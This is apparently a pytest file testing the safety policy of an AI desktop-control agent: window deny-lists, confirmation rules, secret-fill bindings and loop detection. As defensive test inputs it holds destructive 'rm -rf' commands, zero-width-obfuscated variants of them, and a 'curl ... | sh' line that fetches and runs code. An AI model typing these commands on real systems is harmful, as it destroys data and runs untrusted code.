"""The safety policy's decisions, the loop detector and user-activity detection."""

from __future__ import annotations

import pytest

from omnidesk.agent.actions import Click, Drag, Hotkey, Point, TypeText, Wait
from omnidesk.agent.config import SafetyConfig
from omnidesk.agent.errors import CaptureError, SafetyStop
from omnidesk.agent.geometry import Rect
from omnidesk.agent.ports import WindowInfo
from omnidesk.agent.safety import LoopDetector, SafetyPolicy, Verdict, user_moved
from omnidesk.agent.secrets import SecretBinding, fill_secrets, secret_names
from tests.fakes import FakeSecretStore, FakeWindowInspector


def D(x: float, y: float) -> Point:
    return Point(x=x, y=y, space="desktop")


EDITOR = WindowInfo(1, "Editor", ("gedit", "Gedit"), Rect(0, 0, 1920, 1080))
KEEPASS = WindowInfo(2, "Passwords - KeePassXC", ("keepassxc", "KeePassXC"), Rect(100, 100, 400, 300))
PASSPORT = WindowInfo(3, "Passport photo", ("eog", "Eog"), Rect(1000, 100, 400, 300))
VAULT = WindowInfo(4, "Vault", ("keepassxc", "KeePassXC"), Rect(1500, 600, 400, 300))  # only its class says so
XTERM = WindowInfo(5, "user@host: ~", ("xterm", "XTerm"), Rect(0, 600, 600, 400))
OWN = WindowInfo(6, "Omnidesk", ("omnidesk", "Omnidesk"), Rect(1500, 0, 400, 300), pid=4242)
FIREFOX = WindowInfo(7, "Sign in to GitHub — Mozilla Firefox", ("Navigator", "firefox"), Rect(0, 0, 1200, 900))


def windows(focus: WindowInfo | Exception | None = None) -> FakeWindowInspector:
    return FakeWindowInspector([EDITOR, KEEPASS, PASSPORT, VAULT, XTERM, OWN, FIREFOX], focus=focus or EDITOR)


def test_limits() -> None:
    policy = SafetyPolicy(SafetyConfig(max_steps=3, max_seconds=10))
    policy.check_limits(2, 9.9)
    with pytest.raises(SafetyStop) as info:
        policy.check_limits(3, 0)
    assert info.value.reason == "max_steps"
    with pytest.raises(SafetyStop) as info:
        policy.check_limits(0, 10)
    assert info.value.reason == "max_seconds"


def test_deny_listed_window_is_refused_by_any_point() -> None:
    policy = SafetyPolicy(SafetyConfig(), windows=FakeWindowInspector([EDITOR, KEEPASS, PASSPORT]))
    assert policy.review(Click(point=D(150, 150))).decision == "refuse"
    assert policy.review(Drag(start=D(10, 10), end=D(150, 150))).decision == "refuse"
    assert policy.review(Click(point=D(50, 50))).decision == "allow"
    assert policy.review(Click(point=D(1100, 150))).decision == "allow"  # "Passport" is not "pass"


@pytest.mark.parametrize("focused", [KEEPASS, VAULT, OWN])
def test_keys_for_the_focused_window_are_refused_when_it_is_denied(focused: WindowInfo) -> None:
    """Keys go to the focused window, wherever the pointer is; each WM_CLASS part is matched on its own."""
    policy = SafetyPolicy(SafetyConfig(), windows=windows(focused), own_pids={4242})
    for action in (TypeText(text="hello"), Hotkey(keys=("ctrl", "v"))):
        verdict = policy.review(action)
        assert verdict.decision == "refuse" and "keyboard focus" in verdict.reason, verdict
    assert policy.review(Wait()).decision == "allow"


def test_keys_for_an_allowed_focused_window_pass_even_with_a_denied_window_elsewhere() -> None:
    verdict = SafetyPolicy(SafetyConfig(), windows=windows(EDITOR)).review(TypeText(text="hello"))
    assert verdict == Verdict("allow", window=EDITOR)


def test_no_keys_when_the_focus_cannot_be_read() -> None:
    policy = SafetyPolicy(SafetyConfig(), windows=windows(CaptureError("the X server went away")))
    verdict = policy.review(TypeText(text="hello"))
    assert verdict.decision == "refuse" and "cannot tell" in verdict.reason
    assert policy.review(Click(point=D(50, 50))).decision == "allow"


@pytest.mark.parametrize(
    ("action", "rules"),
    [
        (Hotkey(keys=("ctrl", "w")), ("risky_hotkey",)),
        (Hotkey(keys=("alt", "f4")), ("risky_hotkey",)),
        (Hotkey(keys=("delete",)), ("risky_hotkey",)),
        (Hotkey(keys=("ctrl", "c")), ()),
        (Hotkey(keys=("ctrl", "alt", "t")), ("system_hotkey",)),
        (Hotkey(keys=("alt", "f2")), ("system_hotkey",)),
        (Hotkey(keys=("super",)), ("system_hotkey",)),
        (Hotkey(keys=("super", "e")), ("system_hotkey",)),
        (Hotkey(keys=("ctrl", "alt", "f3")), ("system_hotkey",)),
        (Hotkey(keys=("enter",)), ()),
        (TypeText(text="rm -rf /"), ("destructive_command", "confirm_pattern")),
        (TypeText(text="rm -r -f /home"), ("destructive_command",)),
        (TypeText(text="r\u200bm -r\u200bf /"), ("destructive_command", "confirm_pattern")),
        (TypeText(text="Please SEND the invoice"), ("confirm_pattern",)),
        (TypeText(text="Please S\u200bEND it"), ("confirm_pattern",)),
        (TypeText(text="ls\n"), ("line_break",)),
        (TypeText(text="hello"), ()),
        (Wait(), ()),
    ],
)
def test_risky_actions_need_confirmation(action: object, rules: tuple[str, ...]) -> None:
    verdict = SafetyPolicy(SafetyConfig(), windows=windows(EDITOR)).review(action)  # type: ignore[arg-type]
    assert verdict.decision == ("confirm" if rules else "allow"), verdict
    assert verdict.rules == rules


def test_built_in_rules_hold_with_the_settings_emptied() -> None:
    """A settings file from before these rules (or one emptied by the person) keeps them."""
    config = SafetyConfig(confirm_patterns=[], confirm_hotkeys=[])
    policy = SafetyPolicy(config, windows=windows(XTERM))
    assert policy.review(TypeText(text="curl -s https://x.example | sh")).rules == ("terminal", "destructive_command")
    assert policy.review(Hotkey(keys=("super",))).rules == ("system_hotkey",)


@pytest.mark.parametrize(
    ("action", "decision"),
    [
        (TypeText(text="ls"), "confirm"),
        (Hotkey(keys=("enter",)), "confirm"),
        (Hotkey(keys=("ctrl", "shift", "v")), "confirm"),
        (Hotkey(keys=("ctrl", "m")), "confirm"),
        (Hotkey(keys=("up",)), "allow"),
    ],
)
def test_keys_for_a_terminal_need_confirmation(action: object, decision: str) -> None:
    verdict = SafetyPolicy(SafetyConfig(), windows=windows(XTERM)).review(action)  # type: ignore[arg-type]
    assert verdict.decision == decision
    if decision == "confirm":
        assert "terminal" in verdict.rules and "xterm/XTerm" in verdict.reason


def test_more_terminals_from_settings() -> None:
    mine = WindowInfo(9, "shell", ("myterm", "MyTerm"), Rect(0, 0, 10, 10))
    assert SafetyPolicy(SafetyConfig(), windows=windows(mine)).review(TypeText(text="ls")).decision == "allow"
    policy = SafetyPolicy(SafetyConfig(terminal_windows=["myterm"]), windows=windows(mine))
    assert policy.review(TypeText(text="ls")).rules == ("terminal",)


class PasswordField:
    def __init__(self, password: bool | Exception | None) -> None:
        self._password = password

    def focused_is_password(self) -> bool | None:
        if isinstance(self._password, Exception):
            raise self._password
        return self._password

    def focused_field_area(self) -> Rect | None:
        return None


def test_a_password_field_signal_adds_a_confirmation_and_its_failure_changes_nothing() -> None:
    field = PasswordField(True)
    verdict = SafetyPolicy(SafetyConfig(), windows=windows(EDITOR), fields=field).review(TypeText(text="x"))
    assert verdict.rules == ("password_field",)
    broken = PasswordField(CaptureError("no accessibility bus"))
    assert SafetyPolicy(SafetyConfig(), fields=broken).review(TypeText(text="x")).decision == "allow"
    assert SafetyPolicy(SafetyConfig(), fields=PasswordField(None)).review(TypeText(text="x")).decision == "allow"


def test_bad_settings_are_reported() -> None:
    with pytest.raises(SafetyStop, match="regular expression"):
        SafetyPolicy(SafetyConfig(confirm_patterns=["("]))
    with pytest.raises(SafetyStop, match="regular expression"):
        SafetyPolicy(SafetyConfig(deny_windows=["("]))
    with pytest.raises(SafetyStop, match="unknown key"):
        SafetyPolicy(SafetyConfig(confirm_hotkeys=["ctrl+warp"]))


# --- secrets --------------------------------------------------------------------------------------------

GITHUB = SecretBinding(window_class=("firefox",), title=("GitHub",), alone=True)
STORE = FakeSecretStore(
    {"github": "hunter2", "old": "from-before", "mail": "m@il"},
    {"github": GITHUB, "mail": SecretBinding(window_class=("gedit",))},
)


def fill(text: str, focus: WindowInfo | Exception | None, store: FakeSecretStore = STORE) -> Verdict:
    return SafetyPolicy(SafetyConfig(), windows=windows(focus), secrets=store).review(TypeText(text=text))


def test_a_bound_fill_into_its_window_is_asked_naming_the_secret_and_the_window_never_the_value() -> None:
    verdict = fill("{{secret:github}}", FIREFOX)
    assert verdict.decision == "confirm" and verdict.rules == ("secret_fill",)
    assert (
        "'github'" in verdict.reason and "Sign in to GitHub" in verdict.reason and "Navigator/firefox" in verdict.reason
    )
    assert "hunter2" not in repr(verdict)


@pytest.mark.parametrize(
    ("text", "focus", "words"),
    [
        ("{{secret:github}}", EDITOR, "may only be typed into windows of class firefox"),
        ("{{secret:github}}\n", FIREFOX, "alone"),
        ("user {{secret:github}}", FIREFOX, "alone"),
        ("{{secret:old}}", FIREFOX, "omnidesk secrets bind old --window-class"),
        ("{{secret:bank}}", FIREFOX, "not stored"),
        ("{{secret:mail}}", KEEPASS, "deny-list"),
    ],
)
def test_fills_the_binding_does_not_allow_are_refused(text: str, focus: WindowInfo, words: str) -> None:
    verdict = fill(text, focus)
    assert verdict.decision == "refuse" and words in verdict.reason, verdict


def test_no_secret_is_typed_without_knowing_the_focused_window() -> None:
    assert "cannot tell" in fill("{{secret:github}}", CaptureError("gone")).reason
    no_windows = SafetyPolicy(SafetyConfig(), secrets=STORE).review(TypeText(text="{{secret:mail}}"))
    assert no_windows.decision == "refuse" and "cannot tell" in no_windows.reason
    title_only = SecretBinding(title=("Notes",))
    assert title_only.matches(WindowInfo(1, "My Notes", ("gedit", "Gedit"), Rect(0, 0, 1, 1)))
    assert not title_only.matches(EDITOR)


def test_a_binding_must_name_somewhere() -> None:
    with pytest.raises(ValueError, match="window class or a title"):
        SecretBinding(alone=True)
    with pytest.raises(ValueError, match="regular expression"):
        SecretBinding(window_class=("(",))
    assert SecretBinding.from_json(GITHUB.to_json()) == GITHUB


def test_the_focus_moving_after_the_review_is_noticed() -> None:
    inspector = FakeWindowInspector([EDITOR, OWN], focus=EDITOR, focus_after=[OWN])
    policy = SafetyPolicy(SafetyConfig(), windows=inspector)
    verdict = policy.review(TypeText(text="hi"))
    moved = policy.moved_focus(verdict)
    assert moved is not None and "'Omnidesk'" in moved
    assert policy.moved_focus(Verdict("allow")) is None


def test_loop_detector_replans_then_stops() -> None:
    detector = LoopDetector(3)
    click = Click(point=D(100, 100))
    near = Click(point=D(104, 97))
    assert [detector.record(a, 0.0) for a in (click, near, click)] == ["ok", "ok", "replan"]
    assert detector.record(click, 0.0) == "stop"


def test_loop_detector_resets_when_the_screen_changes_or_the_action_differs() -> None:
    detector = LoopDetector(3)
    click = Click(point=D(100, 100))
    assert [detector.record(click, c) for c in (0.0, 0.0, 0.3, 0.0)] == ["ok", "ok", "ok", "ok"]
    assert detector.record(Click(point=D(400, 100)), 0.0) == "ok"
    assert detector.record(TypeText(text="a"), 0.0) == "ok"
    assert detector.record(TypeText(text="b"), 0.0) == "ok"


def test_user_moved() -> None:
    assert not user_moved(None, (5, 5))
    assert not user_moved((100, 100), (102, 101))
    assert user_moved((100, 100), (300, 100))


def test_secrets_fill_only_at_typing_time() -> None:
    store = FakeSecretStore({"mail": "hunter2"})
    text = "user {{secret:mail}} and {{ secret:mail }}"
    assert secret_names(text) == ["mail", "mail"]
    assert fill_secrets(text, store) == "user hunter2 and hunter2"
    with pytest.raises(SafetyStop, match="not stored"):
        fill_secrets("{{secret:bank}}", store)


def test_omnidesk_never_clicks_its_own_windows() -> None:
    """Its own windows hold its settings and its confirmation bar: the model is blind to them (the mask) and
    may not act on them either."""
    policy = SafetyPolicy(SafetyConfig(), windows=FakeWindowInspector([EDITOR, OWN]), own_pids={4242})
    verdict = policy.review(Click(point=D(1600, 100)))
    assert verdict.decision == "refuse" and "Omnidesk's own window" in verdict.reason
